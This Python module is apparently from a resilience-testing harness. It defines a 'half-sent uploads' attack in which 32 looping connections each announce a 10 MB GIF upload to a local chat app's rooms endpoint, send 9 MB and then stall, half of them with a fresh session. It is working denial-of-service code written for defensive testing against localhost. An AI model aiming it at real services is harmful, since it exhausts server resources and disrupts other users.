"""Connections announce a large upload, send most of it, and wait."""

import asyncio

from abuse.attack import Attack, Stage
from abuse.http import ask, attacker_http, new_cookie

AT_ONCE = 32
SIZE = 10_000_000
_SENT = 9_000_000
_CHUNK = bytes(64 * 1024)
_RETRY_S = 0.1


async def run(stage: Stage) -> None:
    """Half-send uploads: every second one as the owner of a room, the others without a session."""
    async with attacker_http(stage) as http:
        cookie = await new_cookie(http)
        room = await ask(
            stage, http, "POST", "/api/v1/rooms", "rooms", json={"title": "Half"}, headers={"Cookie": cookie or ""}
        )
    uploads = [(stage.room, None), (stage.room if room is None else room["_id"], cookie)]
    await asyncio.gather(*(_keep_sending(stage, *uploads[number % 2]) for number in range(AT_ONCE)))


async def _keep_sending(stage: Stage, room: str, cookie: str | None) -> None:
    while True:
        try:
            await _send(stage, room, cookie)
        except OSError:
            stage.findings["connections reset"] += 1
        await asyncio.sleep(_RETRY_S)


async def _send(stage: Stage, room: str, cookie: str | None) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", stage.port, local_addr=(stage.address, 0))
    try:
        head = [
            f"POST /api/v1/rooms/{room}/gifs HTTP/1.1",
            f"Host: 127.0.0.1:{stage.port}",
            "Content-Type: multipart/form-data; boundary=half",
            f"Content-Length: {SIZE}",
            *([f"Cookie: {cookie}"] if cookie else []),
        ]
        writer.write("\r\n".join((*head, "", "")).encode())
        writer.write(b'--half\r\nContent-Disposition: form-data; name="gif"; filename="half.gif"\r\n\r\n')
        stage.findings["uploads begun"] += 1
        answered = asyncio.ensure_future(reader.readline())
        sent = 0
        while sent < _SENT and not answered.done():
            writer.write(_CHUNK)
            draining = asyncio.ensure_future(writer.drain())
            # After an early answer, the server does not read further.
            await asyncio.wait({draining, answered}, return_when=asyncio.FIRST_COMPLETED)
            if not draining.done():
                draining.cancel()
                break
            draining.result()
            sent += len(_CHUNK)
            stage.findings["bytes sent"] += len(_CHUNK)
        status = (await answered).split(b" ")[1:2]
        stage.findings[f"answered with {status[0].decode() if status else 'nothing'}"] += 1
    finally:
        writer.transport.abort()


ATTACK = Attack(
    name="half-sent uploads",
    what=f"{AT_ONCE} connections send 9 of 10 MB of an upload and wait, every second one without a session",
    run=run,
)
